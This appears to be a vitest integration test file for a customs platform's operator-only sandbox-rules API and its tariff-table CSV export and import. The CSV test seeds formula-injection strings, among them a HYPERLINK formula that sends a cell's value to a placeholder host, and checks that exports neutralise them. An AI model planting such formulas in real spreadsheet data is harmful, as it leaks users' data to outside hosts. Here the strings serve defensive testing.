/**
 * The operator's sandbox scenarios through the API, on every database of the run: the rules in
 * force (from the file at first), replaced at run time so the next message takes the new path,
 * refused field by field when bad, kept across a restart, operator only; 409 without the sandbox.
 * And the tariff tables exported as CSV and imported back unchanged.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/app.ts';
import { DEMO_PARTIES, makeFlow, wrapMessage } from '../../src/demo/flows.ts';
import { databases, eventually, startPlatform, type Platform } from '../support/platform.ts';
import { tempDir } from '../support/db.ts';
import { parseCsv } from '../../src/platform/csv.ts';

interface ErrorBody {
  error: { code: string; message: string; issues: Array<{ path: string; rule: string; expected: string; actual: string }> };
}
type Role = Parameters<Platform['key']>[0];

const FILE_RULES = [{ match: { field: 'orderNo', prefix: 'FILEREJ' }, scenario: 'reject' }];

describe.each(databases())('sandbox scenarios and tariff export on %s', (kind) => {
  let p: Platform;
  const dir = tempDir('silkgate-scenarios-');
  let seed = 7100;

  beforeAll(async () => {
    const file = path.join(dir.path, 'rules.json');
    fs.writeFileSync(file, JSON.stringify(FILE_RULES));
    p = await startPlatform(kind, { SILKGATE_SANDBOX_SCENARIOS: file });
  });
  afterAll(async () => {
    await p?.close();
    dir.cleanup();
  });

  const call = (method: string, url: string, role?: Role, body?: unknown, type = 'application/json') =>
    p.request(method, url, { ...(role ? { key: p.key(role) } : {}), ...(body !== undefined ? { body: typeof body === 'string' ? body : JSON.stringify(body), type } : {}) });

  /** An order whose orderNo starts with `prefix`, sent by the demo platform; the status customs gives it in the end. */
  async function orderOutcome(prefix: string): Promise<string> {
    const f = makeFlow(DEMO_PARTIES, { mode: '9610', seed: seed++, orderNoPrefix: prefix });
    const res = await call('POST', '/api/v1/messages', 'ebp', wrapMessage('CEB311Message', [f.order], DEMO_PARTIES.ebp), 'application/xml');
    expect(res.status, res.text).toBe(202);
    const id = (res.json() as { id: number }).id;
    return eventually(async () => {
      const s = (await call('GET', `/api/v1/messages/${id}`, 'ebp')).json() as { records: Array<{ status: string }> };
      const status = s.records[0].status;
      return ['customs-accepted', 'rejected', 'manual-review'].includes(status) && status;
    }, 20_000, `the outcome of order ${f.orderNo}`);
  }

  it('shows the rules in force, from the file at first', async () => {
    const res = await call('GET', '/api/v1/sandbox/scenarios', 'operator');
    expect(res.status).toBe(200);
    expect(res.json()).toEqual(FILE_RULES);
    expect(res.headers.get('x-scenarios-source')).toBe('file');
  });

  it('replaces the rules at run time: the next matching order takes the new path, and the change is audited', async () => {
    expect(await orderOutcome('VIPX')).toBe('customs-accepted');
    expect(await orderOutcome('FILEREJ')).toBe('rejected');
    const rules = [
      { match: { field: 'orderNo', prefix: 'vipx', messageType: 'CEB311Message' }, scenario: 'reject' },
      { match: { field: 'orderNo', prefix: 'FILEREJ' }, scenario: 'normal' },
    ];
    const put = await call('PUT', '/api/v1/sandbox/scenarios', 'operator', rules);
    expect(put.status, put.text).toBe(200);
    expect(put.json()).toEqual(rules);
    const got = await call('GET', '/api/v1/sandbox/scenarios', 'operator');
    expect(got.json()).toEqual(rules);
    expect(got.headers.get('x-scenarios-source')).toBe('stored');
    // No restart: the running sandbox matches the new rules (case-insensitive), and the file's rule is gone.
    expect(await orderOutcome('VIPX')).toBe('rejected');
    expect(await orderOutcome('FILEREJ')).toBe('customs-accepted');
    const audit = (await call('GET', '/api/v1/audit?action=config.sandbox_scenarios', 'operator')).json() as { entries: Array<{ action: string; subject: string; detail: Record<string, unknown> }> };
    expect(audit.entries.filter((e) => e.action === 'config.sandbox_scenarios')).toEqual([expect.objectContaining({ subject: 'sandbox:scenarios', detail: { rules: 2 } })]);
  });

  it('refuses bad rules naming each rule and field, and changes nothing', async () => {
    const before = (await call('GET', '/api/v1/sandbox/scenarios', 'operator')).json();
    const bad = [
      { match: { field: 'orderNo', prefix: 'A' }, scenario: 'revew' },
      { match: { field: 'orderNo' }, scenario: 'review' },
      { match: { field: 'order-no', prefix: 'B', messageType: 'CEB999Message' }, scenario: 'reject', extra: 1 },
    ];
    const res = await call('PUT', '/api/v1/sandbox/scenarios', 'operator', bad);
    expect(res.status).toBe(400);
    const issues = (res.json() as ErrorBody).error.issues;
    expect(issues.map((i) => `${i.path} ${i.rule}`)).toEqual([
      'rule 1.scenario enum',
      'rule 2.match.prefix prefix',
      'rule 3.extra unknown-key',
      'rule 3.match.field field-name',
      'rule 3.match.messageType enum',
    ]);
    expect(issues[0]).toMatchObject({ actual: 'revew', expected: expect.stringContaining('normal, reject, neg, review') });
    const notArray = await call('PUT', '/api/v1/sandbox/scenarios', 'operator', { match: {} });
    expect(notArray.status).toBe(400);
    expect((notArray.json() as ErrorBody).error.issues[0]).toMatchObject({ path: 'rules', rule: 'type', actual: 'object' });
    expect((await call('GET', '/api/v1/sandbox/scenarios', 'operator')).json()).toEqual(before);
  });

  it('is the operator\'s alone', async () => {
    for (const role of ['customs', 'ebp', 'agent'] as const) {
      expect((await call('GET', '/api/v1/sandbox/scenarios', role)).status).toBe(403);
      const put = await call('PUT', '/api/v1/sandbox/scenarios', role, []);
      expect(put.status).toBe(403);
      expect((put.json() as ErrorBody).error.code).toBe('FORBIDDEN');
    }
    expect((await call('GET', '/api/v1/sandbox/scenarios')).status).toBe(401);
    expect((await call('GET', '/api/v1/sandbox/scenarios', 'operator')).json()).toHaveLength(2);
  });

  it('keeps the rules across a restart, in place of the file', async () => {
    const again = await createApp(p.app.config);
    try {
      const res = await again.http.inject({ method: 'GET', url: '/api/v1/sandbox/scenarios', headers: { authorization: `Bearer ${p.key('operator')}` } });
      expect(res.statusCode).toBe(200);
      expect(res.headers['x-scenarios-source']).toBe('stored');
      expect(JSON.parse(res.body)).toEqual((await call('GET', '/api/v1/sandbox/scenarios', 'operator')).json());
    } finally {
      await again.close();
    }
  });

  it('exports the rate table and the positive list as CSV that imports back unchanged', async () => {
    const note = 'rate "A", 含税说明\nsecond line';
    const seeded = await call('POST', '/api/v1/tariff/rates', 'operator', [
      { hs_prefix: '33049910', vat: 13, consumption: 15, duty: 0, note },
      // Text a spreadsheet would run as a formula, and text that already starts with an apostrophe.
      { hs_prefix: '33049920', vat: 13, consumption: 0, duty: 0, note: '=HYPERLINK("http://example.invalid/?"&A1,"x")' },
      { hs_prefix: '33049930', vat: 13, consumption: 0, duty: 0, note: "'=1+1" },
    ]);
    expect(seeded.status, seeded.text).toBe(200);
    const listed = await call('POST', '/api/v1/tariff/positive-list', 'operator', [
      { hs_prefix: '0101210010', name: '--其他', note: '@SUM(1)' },
      { hs_prefix: '0101210020', name: '+86 活马', note: '-' },
    ]);
    expect(listed.status, listed.text).toBe(200);
    for (const [table, url] of [['rates', '/api/v1/tariff/rates'], ['positive-list', '/api/v1/tariff/positive-list']] as const) {
      const before = ((await call('GET', url, 'operator')).json() as { items: Array<Record<string, unknown>> }).items.map(({ updatedAt: _u, ...rest }) => rest);
      const csv = await fetch(`${p.url}${url}.csv`, { headers: { authorization: `Bearer ${p.key('customs')}` } });
      expect(csv.status).toBe(200);
      expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(csv.headers.get('content-disposition')).toContain(`${table}.csv`);
      const bytes = Buffer.from(await csv.arrayBuffer());
      // A BOM, so spreadsheets read it as UTF-8; the header the import takes.
      expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      expect(bytes.toString('utf8').slice(1).split('\r\n')[0]).toBe(table === 'rates' ? 'hs_prefix,vat,consumption,duty,note' : 'hs_prefix,name,note');
      expect((await call('GET', `${url}.csv`, 'ebp')).status).toBe(403);
      // No cell a spreadsheet would evaluate.
      const cells = parseCsv(bytes.toString('utf8'));
      expect(cells.ok).toBe(true);
      for (const r of cells.ok ? cells.records : []) for (const f of r.fields) expect(f, `${table} line ${r.line}`).not.toMatch(/^[=+\-@\t\r]/);
      const back = await p.request('POST', `${url}?mode=replace`, { key: p.key('operator'), body: bytes, type: 'text/csv' });
      expect(back.status, back.text).toBe(200);
      expect(back.json()).toMatchObject({ rows: before.length });
      const after = ((await call('GET', url, 'operator')).json() as { items: Array<Record<string, unknown>> }).items.map(({ updatedAt: _u, ...rest }) => rest);
      expect(after).toEqual(before);
    }
    const rates = (await call('GET', '/api/v1/tariff/rates', 'operator')).json() as { items: Array<{ hsPrefix: string; note: string | null; consumption: number }> };
    expect(rates.items.find((r) => r.hsPrefix === '33049910')).toMatchObject({ note, consumption: 15 });
  });
});

describe('sandbox scenarios without the sandbox', () => {
  it('answers 409 naming the transport', async () => {
    const p = await startPlatform('sqlite', { SILKGATE_TRANSPORT: 'folder' });
    try {
      for (const [method, body] of [['GET', undefined], ['PUT', '[]']] as const) {
        const res = await p.request(method, '/api/v1/sandbox/scenarios', { key: p.key('operator'), ...(body ? { body, type: 'application/json' } : {}) });
        expect(res.status).toBe(409);
        expect((res.json() as ErrorBody).error.issues).toEqual([{ path: 'transport', rule: 'sandbox', expected: 'sandbox', actual: 'folder' }]);
      }
    } finally {
      await p.close();
    }
  });
});
